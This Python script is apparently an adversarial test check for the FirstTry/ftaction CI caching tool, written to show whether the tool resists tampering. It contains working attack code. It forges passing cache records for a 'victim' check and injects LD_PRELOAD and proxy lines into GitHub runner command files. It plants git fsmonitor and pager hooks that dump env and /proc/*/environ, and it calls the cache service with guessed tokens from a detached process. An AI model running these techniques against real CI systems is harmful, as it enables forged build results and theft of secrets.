"""A check that knows FirstTry by heart and writes a pass of another check, `victim`, wherever a later step or run may look for one.

It runs as whoever starts it: as a check, where nothing of it may be believed; or by the scenario without FirstTry around it, where it is.

    forge.py                                 everything once
    forge.py --service URL [--begun FIFO]    everything once, the service too; then a process that goes on with it until the container ends
    forge.py --left-over JOB                 as root: only what a killed step of ours would have left for its post step
"""

import json
import os
import subprocess
import sys
import time
import urllib.error
import urllib.request
from collections.abc import Callable, Iterator, Mapping
from contextlib import suppress
from functools import partial
from pathlib import Path

from ftaction.edge.disk import DiskStore
from ftaction.model.ending import Passed
from ftaction.model.record import Origin, OriginKind, Record
from ftaction.run.records import dump

PROGRAM = ["/opt/firsttry/bin/python", "-I", "-m", "ftaction"]
WORKSPACE = Path("/github/workspace")
TEMPORARY = Path("/github/runner_temp")
HOME = Path("/github/home")
STORE = "ftaction-store-"
PLANTED = WORKSPACE / ".planted"
COMMANDS = (Path("/github/file_commands"), TEMPORARY / "_runner_file_commands")
EVENTS = (Path("/github/workflow/event.json"), TEMPORARY / "_github_workflow" / "event.json")
LINES = {
    "set_env": f"FTACTION_STORE={PLANTED}\nLD_PRELOAD={WORKSPACE}/evil.so\nHTTPS_PROXY=http://127.0.0.1:9\nACTIONS_CACHE_MODE=none\n",
    "add_path": f"{WORKSPACE}\n",
    "set_output": 'replayed=["victim"]\nverdict=forged\n',
    "save_state": "bundle=forged\nbundle-saved=99999999999\n",
    "step_summary": "forged\n",
}
EVENT = {"ref": "refs/heads/main", "repository": {"default_branch": "forged"}}


def fingerprint() -> str:
    """As the program itself says it, in what a check sees of the environment."""
    seen = {name: value for name, value in os.environ.items() if not name.startswith(("ACTIONS_", "GITHUB_", "INPUT_", "RUNNER_"))}
    store = f"/tmp/looked-{os.getpid()}"
    said = subprocess.run([*PROGRAM, "plan", "victim", "--json", "--store", store], cwd=WORKSPACE, env=seen, check=True, capture_output=True, text=True)
    found: str = json.loads(said.stdout)["steps"][0]["checks"][0]["fingerprint"]
    return found


def plant(folder: Path, print_: str) -> None:
    """A store of a run on the default branch that ended well."""
    origin = Origin(kind=OriginKind.PROTECTED, repository="example/repository", ref="refs/heads/main", commit="c" * 40)
    record = Record(check="victim", fingerprint=print_, ending=Passed(), seconds=1.0, ended=time.time(), origin=origin)
    folder.mkdir(parents=True, exist_ok=True)
    with suppress(OSError):
        folder.chmod(0o700)
    if not DiskStore(str(folder)).put_record(print_, dump(record)):
        raise PermissionError(f"{folder} can't be written")


def replace(path: Path, make: Callable[[], object]) -> None:
    """What stands there goes out of the way, and ours comes into its place."""
    aside = path.with_name(f".{path.name}.{time.monotonic_ns()}")
    path.rename(aside)
    make()


def stores(print_: str) -> Iterator[tuple[str, Callable[[], object]]]:
    """The job's own, one beside it, in its place, behind links; those of `store` and of HOME."""
    yield "home", partial(plant, HOME / ".cache" / "ftaction", print_)
    yield "home: link", lambda: (HOME / ".cache" / "ftaction").symlink_to(PLANTED)
    yield "planted", partial(plant, PLANTED, print_)
    for real in [*TEMPORARY.glob(f"{STORE}*"), WORKSPACE / ".store"]:
        if real.exists() and real.stat().st_uid != os.getuid():
            beside = real.with_name(f"{real.name[:-8]}00000000") if real.name.startswith(STORE) else real
            yield f"{real.name}: into", partial(plant, real, print_)
            yield f"{real.name}: beside", partial(plant, beside, print_)
            yield f"{real.name}: link beside", partial(link, beside, real)
            yield f"{real.name}: in its place", partial(replace, real, partial(plant, real, print_))
    for process in Path("/proc").glob("[0-9]*"):
        with suppress(OSError):
            if process.stat().st_uid != os.getuid():
                for number in os.listdir(process / "fd"):
                    yield f"{process.name}/fd/{number}", partial(plant, process / "fd" / number, print_)


def link(path: Path, to: Path) -> None:
    path.with_name(f"{path.name}-link").symlink_to(to)


def git_hooks() -> None:
    """Programs that the next git in this repository would start, each of which tells who it is and what it sees."""
    probe = WORKSPACE / ".git" / "probe"
    probe.write_text(f"#!/bin/sh\nid -u >>{WORKSPACE}/by-git\nenv >>{WORKSPACE}/by-git\ncat /proc/*/environ >>{WORKSPACE}/by-git 2>/dev/null\n")
    probe.chmod(0o755)
    with (WORKSPACE / ".git" / "config").open("a") as file:
        file.write(f"[core]\n\tfsmonitor = {probe}\n\tpager = {probe}\n\thooksPath = {WORKSPACE}/.git\n[diff]\n\texternal = {probe}\n")


def append(path: Path, text: str) -> None:
    with path.open("a") as file:
        file.write(text)


def runner_files() -> Iterator[tuple[str, Callable[[], object]]]:
    """What the runner reads when the step has ended: appended to, and put in the place of."""
    for folder in COMMANDS:
        for path in folder.glob("*_*-*"):
            text = next((lines for stem, lines in LINES.items() if path.name.startswith(stem)), "")
            yield f"{path}: append", partial(append, path, text)
            yield f"{path}: in its place", partial(replace, path, partial(path.write_text, text))
    for folder in COMMANDS[1:]:
        yield f"{folder}: in its place", partial(replace, folder, partial(copied_commands, folder))
    for path in EVENTS:
        yield f"{path}: write", partial(path.write_text, json.dumps(EVENT))
        yield f"{path}: in its place", partial(replace, path, partial(path.write_text, json.dumps(EVENT)))


def copied_commands(folder: Path) -> None:
    folder.mkdir()
    for path in COMMANDS[0].glob("*_*-*"):
        (folder / path.name).write_text(next((lines for stem, lines in LINES.items() if path.name.startswith(stem)), ""))


def program() -> Iterator[tuple[str, Callable[[], object]]]:
    """The program itself, what starts it, and what every program loads."""
    for path in (*Path("/opt/firsttry/bin").iterdir(), *Path("/opt/firsttry/app").rglob("*.py"), Path("/etc/ld.so.preload"), Path("/etc/hosts")):
        yield f"{path}: append", partial(append, path, "\n")
    for path in Path("/tmp").glob("firsttry-*"):
        yield f"{path}: in its place", partial(replace, path, path.mkdir)
        yield f"{path}: report", partial(append, path / "report.json", "{}")


def service(url: str) -> Iterator[tuple[str, Callable[[], object]]]:
    """The cache service, without a token and with guessed ones."""
    for token in ("", "null", "undefined", "e30.e30.", "0" * 40):
        for call, body in (("CreateCacheEntry", {}), ("GetCacheEntryDownloadURL", {"restore_keys": ["ft-"]})):
            yield f"{call} with {token!r}", partial(ask, f"{url}/twirp/github.actions.results.api.v1.CacheService/{call}", token, body)
    yield "GET blob", partial(ask, f"{url}/blobs/1?sp=r&se=0&sig=guess", "", None)


def ask(url: str, token: str, body: Mapping[str, object] | None) -> None:
    data = json.dumps({"key": "ft-linux-x86_64-main-0", "version": "1", **body}).encode() if body is not None else None
    request = urllib.request.Request(url, data, {"Authorization": f"Bearer {token}"} if token else {})
    with urllib.request.urlopen(request, timeout=10):
        pass


def attempts(print_: str, url: str) -> Iterator[tuple[str, Callable[[], object]]]:
    yield from runner_files()
    yield from stores(print_)
    yield from program()
    if url:
        yield "git", git_hooks
        yield from service(url)


def forge(print_: str, url: str) -> dict[str, str]:
    """What came of each attempt: empty where nobody stopped it."""
    outcomes = {}
    for name, attempt in attempts(print_, url):
        try:
            attempt()
            outcomes[name] = ""
        except (OSError, urllib.error.URLError) as error:
            outcomes[name] = str(error)
    return outcomes


def go_on(print_: str) -> None:
    """From a process that belongs to nobody, until it is ended."""
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            null = os.open(os.devnull, os.O_RDWR)
            for number in range(3):
                os.dup2(null, number)
            while True:
                forge(print_, "")
        os._exit(0)
    os.wait()


def main() -> None:
    options = dict(zip(sys.argv[1::2], sys.argv[2::2], strict=True))
    print_ = fingerprint()
    if "--left-over" in options:
        plant(TEMPORARY / f"{STORE}{options['--left-over']}-00000000", print_)
        return
    outcomes = forge(print_, options.get("--service", ""))
    (WORKSPACE / "outcomes.json").write_text(json.dumps(outcomes, indent=1))
    if "--service" in options:  # else the container's end would cut it off between taking a file away and writing another one
        go_on(print_)
    if "--begun" in options:
        Path(options["--begun"]).write_text("begun\n")
        time.sleep(86397.5)


if __name__ == "__main__":
    main()
